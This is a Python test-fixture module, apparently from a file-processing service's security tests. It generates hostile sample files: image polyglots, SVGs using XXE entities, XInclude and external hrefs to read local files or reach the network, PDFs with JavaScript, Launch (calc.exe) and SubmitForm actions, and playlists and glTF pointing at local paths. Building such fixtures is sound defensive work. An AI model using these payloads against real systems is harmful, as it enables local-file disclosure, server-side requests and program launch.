"""Files that ask for other files and for the network, and pictures that are something else, too."""

import io
import json
import zipfile
from pathlib import Path
from typing import NamedTuple

import pyvips

from tests.fakes.files import pdf


class Polyglot(NamedTuple):
    """A picture, and what stands behind it or in it for another program."""

    data: bytes
    other: bytes


def packed() -> bytes:
    """A ZIP archive that has one file."""
    with io.BytesIO() as body:
        with zipfile.ZipFile(body, "w") as archive:
            archive.writestr("run.sh", "#!/bin/sh\necho out\n")
        return body.getvalue()


def polyglots() -> dict[str, Polyglot]:
    """What browsers and archivers were led astray by: each decodes, and is a file of another kind as well."""
    picture = pyvips.Image.black(64, 48, bands=3).linear(1, [200, 60, 30]).cast("uchar").copy(interpretation="srgb")
    page, script = b"<html><body><script>alert(1)</script></body></html>", b"*/=1;alert('out');//"
    both = {"jpeg+zip": (picture.jpegsave_buffer(), packed()), "png+html": (picture.pngsave_buffer(), page)}
    both["gif+script"] = (picture.gifsave_buffer(), script)
    return {name: Polyglot(first + other, other) for name, (first, other) in both.items()}


def asks_for(*addresses: str, doctype: str = "", inside: str = "") -> bytes:
    """A white drawing that would show any of these pictures all over itself."""
    images = "".join(f"<image xlink:href='{one}' href='{one}' width='40' height='40'/>" for one in addresses)
    filters = "".join(f"<filter id='f{n}'><feImage href='{one}'/></filter>" for n, one in enumerate(addresses))
    used = "".join(f"<rect width='40' height='40' filter='url(#f{n})'/>" for n in range(len(addresses)))
    style = "".join(f"@import url('{one}');" for one in addresses)
    return (
        f"<?xml version='1.0'?>{doctype}"
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='40' height='40'>"
        f"<style>{style}</style>{filters}<rect width='40' height='40' fill='#fff'/>{used}{images}{inside}</svg>"
    ).encode()


def includes(address: str) -> list[bytes]:
    """White drawings that would have this text in them: as an entity, and by XInclude."""
    entity = f"<!DOCTYPE svg [<!ENTITY out SYSTEM '{address}'>]>"
    include = f"<include xmlns='http://www.w3.org/2001/XInclude' href='{address}' parse='text'/>"
    return [asks_for(doctype=entity, inside="<text y='30'>&out;</text>"), asks_for(inside=include)]


def document(outside: Path, far: str) -> bytes:
    """A PDF whose page is a file of this machine, with actions of every sort: scripts, forms, links, launches."""
    submit = f"this.submitForm('{far}'); app.launchURL('{far}'); util.readFileIntoStream('{outside}');"
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(" + submit.encode().replace(b"(", b"\\(").replace(b")", b"\\)") + b")>>"
        b"/AA<</WC<</S/URI/URI(" + far.encode() + b")>>>>/AcroForm<</Fields[7 0 R]/NeedAppearances true>>"
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>"
        b"/EmbeddedFiles<</Names[(f)<</Type/Filespec/FS/URL/F(" + far.encode() + b")>>]>>>>"
    )
    path = str(outside).encode()
    more = [
        b"<</Length 0/F<</Type/Filespec/F(" + path + b")>>/FFilter/DCTDecode/Type/XObject/Subtype/Image"
        b"/Width 64/Height 64/BitsPerComponent 8/ColorSpace/DeviceRGB>>stream\n\nendstream",
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 200 300]"
        b"/A<</S/Launch/F(" + path + b")/Win<</F(calc.exe)>>>>"
        b"/AA<</PO<</S/GoToR/F(" + path + b")/D[0/Fit]>>"
        b"/E<</S/SubmitForm/F<</FS/URL/F(" + far.encode() + b")>>>>>>>>",
    ]
    data = pdf([b"q 200 0 0 300 0 0 cm /I1 Do Q"], catalog=catalog, more=more)
    return data.replace(b"/Resources<<", b"/Annots[7 0 R]/Resources<</XObject<</I1 6 0 R>>", 1)


def links(outside: Path, far: str, program: Path) -> bytes:
    """A PDF whose links open a file of this machine, an address, and a program: for a viewer that obeys."""
    actions = (
        b"/S/GoToR/F(" + str(outside).encode() + b")/D[0/Fit]",
        b"/S/URI/URI(" + far.encode() + b")",
        b"/S/Launch/F(" + str(program).encode() + b")",
    )
    more = [b"<</Type/Annot/Subtype/Link/Rect[0 0 200 300]/A<<" + action + b">>>>" for action in actions]
    return pdf([b""], more=more).replace(b"/Resources<<", b"/Annots[6 0 R 7 0 R 8 0 R]/Resources<<", 1)


def scripts(outside: Path) -> list[bytes]:
    """Playlists and the like, which only name other files."""
    texts = (
        f"#EXTM3U\n#EXT-X-TARGETDURATION:3\n#EXTINF:3,\nfile://{outside}\n#EXT-X-ENDLIST\n",
        f"ffconcat version 1.0\nfile '{outside}'\n",
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
        f"{outside}\n",
    )
    return [text.encode() for text in texts]


def model(address: str) -> bytes:
    """A glTF whose four numbers lie elsewhere."""
    accessor = {"bufferView": 0, "componentType": 5121, "count": 4, "type": "SCALAR"}
    document = {
        "asset": {"version": "2.0"},
        "buffers": [{"uri": address, "byteLength": 4}],
        "bufferViews": [{"buffer": 0, "byteLength": 4}],
        "accessors": [accessor],
    }
    return json.dumps(document).encode()


def planted(outside: Path, far: str) -> dict[str, bytes]:
    """All of them by name. outside: a file of this machine that nobody may show; far: an address of the network."""
    near = (outside.name, f"./{outside.name}", f"file://{outside}", str(outside), "../input")
    files = {"asks.svg": asks_for(*near, far), "asks.pdf": document(outside, far)}
    for number, address in enumerate((f"file://{outside}", far)):
        files |= {f"includes-{number}-{n}.svg": data for n, data in enumerate(includes(address))}
        files[f"asks-{number}.gltf"] = model(address)
    return files | {f"script-{n}.mp4": data for n, data in enumerate(scripts(outside))}
